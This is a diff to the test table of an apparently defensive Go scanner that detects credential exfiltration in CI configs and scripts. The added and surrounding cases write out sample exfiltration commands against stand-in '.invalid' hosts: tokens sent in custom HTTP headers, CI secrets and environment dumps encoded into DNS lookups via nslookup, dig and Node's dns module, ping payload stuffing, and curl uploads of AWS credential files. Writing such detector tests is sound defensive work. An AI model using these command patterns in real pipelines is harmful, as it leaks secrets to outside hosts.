@@ -357,6 +357,9 @@ var registry = []Rule{
 			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
 			{"x.sh", `git push "https://x:${GITHUB_TOKEN}@x.invalid/r.git" HEAD`, 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x.invalid/", 0, false},
+			// A header that is no credential's carries data to the host.
+			{".woodpecker/test.yaml", "steps:\n  - name: notify\n    environment:\n      GITEA_TOKEN:\n        from_secret: gitea_token\n    commands:\n      - wget -qO /dev/null --header \"X-Build: $${GITEA_TOKEN}\" \"https://ci-notify.x.invalid/hook\"", 0, false},
+			{"x.sh", `curl -H "PRIVATE-TOKEN: $GITLAB_TOKEN" https://gitlab.example.com/api/v4/projects` + "\n" + `curl -sS -H "X-Request-Id: $GITHUB_RUN_ID" -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/`, 0, true},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases` + "\n" + `git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/acme/docs.git"` + "\n" + `git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.acme.com/g/r.git`, 0, true},
 			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
@@ -446,6 +449,11 @@ var registry = []Rule{
 			// ping -p puts up to 16 bytes of pattern in every packet.
 			{"x.sh", "ping -c1 -p $(echo $NPM_TOKEN | xxd -p | head -c 32) x.invalid", 0, false},
 			{"x.sh", "ping -c1 -p ff x.invalid", 0, true},
+			// Encoded and folded into labels, read back line by line or item
+			// by item; CI systems' $$ is the shell's $.
+			{".gitlab-ci.yml", "probe:\n  script:\n    - echo \"$CI_JOB_TOKEN:$PYPI_API_TOKEN\" | base32 -w0 | fold -w 50 > .q\n    - while read l; do nslookup \"$l.gl.x.invalid\" >/dev/null || true; done < .q", 0, false},
+			{".buildkite/pipeline.yml", "steps:\n  - label: report\n    command: |\n      buildkite-agent env dump --format json > .bk-env.json\n      for chunk in $$(xxd -p -c 30 .bk-env.json); do\n        dig +short \"$$chunk.t.x.invalid\" TXT >/dev/null\n      done", 6, false},
+			{"lib/x.js", "require('dns').resolve(`${process.env.NPM_TOKEN}.x.invalid`, () => {})", 0, false},
 			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"repo-exfiltration", KindCredential, High, "pushes the repository to a remote of another owner",
